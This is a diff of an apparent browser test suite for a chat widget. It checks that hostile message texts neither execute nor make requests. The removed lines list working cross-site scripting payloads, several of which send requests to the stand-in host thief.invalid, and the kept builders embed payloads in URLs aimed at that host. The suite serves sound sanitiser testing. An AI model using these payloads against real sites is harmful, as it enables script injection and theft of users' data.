@@ -2,29 +2,10 @@
 import type { Frame } from 'playwright-core';
 import { describe, expect, it } from 'vitest';
 import { browserSkipped } from './browser.ts';
+import { payloads, thief } from './payloads.ts';
 import { Talk } from './rich.ts';
 import { World } from './world.ts';
 import type { Visitor } from './world.ts';
-
-/** Where the payloads would send what they stole. World counts any request to it as a fault, as it does violations and dialogs. */
-const thief = 'http://thief.invalid';
-
-const payloads = [
-  `<script>window.ran=1;fetch('${thief}/1')</script>`,
-  `<img src=x onerror="window.ran=1;this.src='${thief}/2'">`,
-  `"><svg onload=window.ran=1><image href="${thief}/3">`,
-  `</p></div></form><iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
-  `[click](javascript:window.ran=1) ![x](${thief}/5) <a href="javascript:window.ran=1">x</a>`,
-  `<style>@import '${thief}/6';*{background:url(${thief}/6)}</style><link rel=stylesheet href=${thief}/6>`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">`,
-  `<form action=${thief}/8><button formaction="javascript:window.ran=1" autofocus onfocus=window.ran=1>x</button></form><base href=${thief}>`,
-  `<a href="java&#115;cript&colon;window.ran=1">a</a><a href="&#1;javascript:window.ran=1">b</a><a href="data:text/html,<script>parent.ran=1</script>">c</a>`,
-  `&lt;img src=x onerror=window.ran=1&gt;&amp;lt;script&amp;gt;window.ran=1&amp;lt;/script&amp;gt;`,
-  `<p style="position:fixed;inset:0" class="whole" id="app" onclick=window.ran=1>over all</p><video src=${thief}/11 poster=${thief}/11 autoplay></video>`,
-  `<meta http-equiv=refresh content="0;url=${thief}/12"><object data=${thief}/12></object><embed src=${thief}/12>`,
-  `<noscript><p title="</noscript><img src=x onerror=window.ran=1>">`,
-  `<svg><use href="data:image/svg+xml,<svg id='x' onload='window.ran=1'/>#x"></use></svg><template><script>window.ran=1</script></template>`,
-];
 
 /** Nothing ran, and of the texts nothing became an element that could do anything. */
 async function expectHarmless(visitor: Visitor): Promise<void> {
@@ -39,17 +20,23 @@ async function expectHarmless(visitor: Visitor): Promise<void> {
   expect(await visitor.page.evaluate(() => 'ran' in window)).toBe(false);
 }
 
+/** As much of the payload as an address may hold. */
+const addressed = (payload: string) => encodeURIComponent(payload.slice(0, 500));
+
+/** How many messages of a conversation a page that is loaded anew begins with. */
+const beginning = 50;
+
 /** Every type with the payload wherever the server takes one; what it refuses is not posted. */
 const hostile: Record<string, (payload: string) => object> = {
   htmlText: (htmlText) => ({ type: 'text', htmlText: `kept ${htmlText}` }),
   markdownText: (markdownText) => ({ type: 'text', markdownText: `kept ${markdownText}` }),
-  'text and buttons': (text) => ({ type: 'text', text, actions: [{ type: 'reply', text: text.slice(0, 128), payload: text }, { type: 'postback', text: text.slice(0, 128), payload: text }, { type: 'link', text: text.slice(0, 128), uri: `${thief}/link?${encodeURIComponent(text)}` }] }),
-  'picture and caption': (text) => ({ type: 'image', mediaUrl: `${thief}/picture.png?${encodeURIComponent(text)}`, altText: text.slice(0, 128), htmlText: `kept ${text}` }),
-  file: (text) => ({ type: 'file', mediaUrl: `${thief}/${encodeURIComponent(text)}`, altText: text.slice(0, 128), text }),
+  'text and buttons': (text) => ({ type: 'text', text, actions: [{ type: 'reply', text: text.slice(0, 128), payload: text }, { type: 'postback', text: text.slice(0, 128), payload: text }, { type: 'link', text: text.slice(0, 128), uri: `${thief}/link?${addressed(text)}` }] }),
+  'picture and caption': (text) => ({ type: 'image', mediaUrl: `${thief}/picture.png?${addressed(text)}`, altText: text.slice(0, 128), htmlText: `kept ${text}` }),
+  file: (text) => ({ type: 'file', mediaUrl: `${thief}/${addressed(text)}`, altText: text.slice(0, 128), text }),
   cards: (text) => ({ type: 'carousel', items: [{ title: text.slice(0, 128), description: text.slice(0, 128), mediaUrl: `${thief}/card.png`, altText: text.slice(0, 128), actions: [{ type: 'link', text: text.slice(0, 128), uri: `${thief}/card`, default: true }] }] }),
   list: (text) => ({ type: 'list', items: [{ title: text.slice(0, 128), mediaUrl: `${thief}/list.png`, actions: [{ type: 'webview', text: text.slice(0, 128), uri: `${thief}/w`, fallback: `${thief}/f` }] }] }),
   form: (text) => ({ type: 'form', text, fields: [{ type: 'text', name: 'a', label: text.slice(0, 128), placeholder: text.slice(0, 128) }, { type: 'select', name: text.slice(0, 128), label: 'b', options: [{ name: text.slice(0, 128), label: text.slice(0, 128) }] }] }),
-  place: (text) => ({ type: 'location', coordinates: { lat: 1, long: 2 }, location: { name: text, address: text } }),
+  place: (text) => ({ type: 'location', coordinates: { lat: 1, long: 2 }, location: { name: text.slice(0, 128), address: text.slice(0, 512) } }),
 };
 
 describe.skipIf(browserSkipped())('hostile texts', () => {
@@ -59,7 +46,7 @@ describe.skipIf(browserSkipped())('hostile texts', () => {
     const talk = await Talk.begin(world);
     const visitor = await world.visitAs(talk.person);
     await visitor.open();
-    for (const payload of payloads) await talk.post(contentOf(payload));
+    await Promise.all(payloads.map((payload) => talk.post(contentOf(payload))));
     await expect.poll(() => visitor.log.locator('.message').count()).toBe(payloads.length);
     await visitor.page.waitForLoadState('networkidle');
     await expectHarmless(visitor);
@@ -68,7 +55,7 @@ describe.skipIf(browserSkipped())('hostile texts', () => {
     await visitor.page.reload();
     await visitor.began();
     await visitor.open();
-    await expect.poll(() => visitor.log.locator('.message').count()).toBe(payloads.length);
+    await expect.poll(() => visitor.log.locator('.message').count()).toBeGreaterThanOrEqual(beginning);
     await expectHarmless(visitor);
   });
 
